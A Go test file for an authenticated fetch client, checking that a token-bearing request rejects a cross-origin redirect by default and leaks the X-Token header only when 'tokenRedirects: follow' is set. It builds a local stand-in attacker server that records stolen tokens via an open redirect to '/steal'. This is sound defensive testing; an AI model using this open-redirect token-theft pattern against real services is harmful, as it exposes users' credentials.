package wasm_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
)

// TestTokenRedirects: an open redirect on the allowed origin points to another origin that
// accepts the token header in CORS, as an attacker's would. fetch keeps a custom header
// such as X-Token when it follows a redirect to another origin (the Fetch standard drops
// only Authorization), and a script cannot see where a redirect points first. By default a
// request that carries the token does not follow: it rejects with an AuthFetchError that
// names the option, and the other origin sees nothing. With tokenRedirects: 'follow' it
// follows as fetch does, and the other origin gets the token: the leak the default
// prevents. A request sent with skipAuth follows redirects as usual.
func TestTokenRedirects(t *testing.T) {
	var mu sync.Mutex
	var seen []string // X-Token headers the other origin received
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", r.Header.Get("Origin"))
		w.Header().Set("Access-Control-Allow-Headers", "X-Token")
		if r.Method == http.MethodGet {
			mu.Lock()
			seen = append(seen, r.Header.Get("X-Token"))
			mu.Unlock()
		}
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{"code":0}`)
	}))
	defer evil.Close()
	stolen := func() []string {
		mu.Lock()
		defer mu.Unlock()
		return append([]string(nil), seen...)
	}

	e := newEnv(t)
	tb := e.newTab("a")
	tb.open()
	tb.setup("")
	tok := tb.login()
	call := fmt.Sprintf(`auth.fetch(%q)`, e.origin+"/open-redirect?to="+evil.URL+"/steal")

	r := eval[burstReply](tb, "a redirect to another origin", `return await H.settle(`+call+`.then(H.reply))`)
	if r.OK || r.Error == nil || r.Error.Name != "AuthFetchError" || !strings.Contains(r.Error.Message, "tokenRedirects") {
		t.Errorf("a token-bearing request redirected to another origin: %+v, want an AuthFetchError naming tokenRedirects", r)
	}
	if got := stolen(); len(got) != 0 {
		t.Fatalf("the other origin received %d requests: %q", len(got), got)
	}

	r = eval[burstReply](tb, "the same with skipAuth", `return await H.settle(auth.fetch(`+
		fmt.Sprintf("%q", e.origin+"/open-redirect?to="+evil.URL+"/public")+`, { skipAuth: true }).then(H.reply))`)
	if !r.OK || r.Value.Status != 200 {
		t.Errorf("a skipAuth request did not follow the redirect: %+v", r)
	}
	if got := stolen(); len(got) != 1 || got[0] != "" {
		t.Errorf("the skipAuth request reached the other origin with %q, want one request without a token", got)
	}

	tb.do("a client that follows redirects", `window.auth.close();
window.auth = await M.createAuthFetch({ baseURL: '/api', tokenRedirects: 'follow' });`)
	r = eval[burstReply](tb, "a redirect with tokenRedirects: 'follow'", `return await H.settle(`+call+`.then(H.reply))`)
	if !r.OK || r.Value.Status != 200 {
		t.Errorf("with tokenRedirects 'follow' the request did not follow: %+v", r)
	}
	if got := stolen(); len(got) != 2 || got[1] != tok.AccessToken {
		t.Errorf("with tokenRedirects 'follow' the other origin got %d requests, want the token it was sent (what the default prevents)", len(got))
	}
}
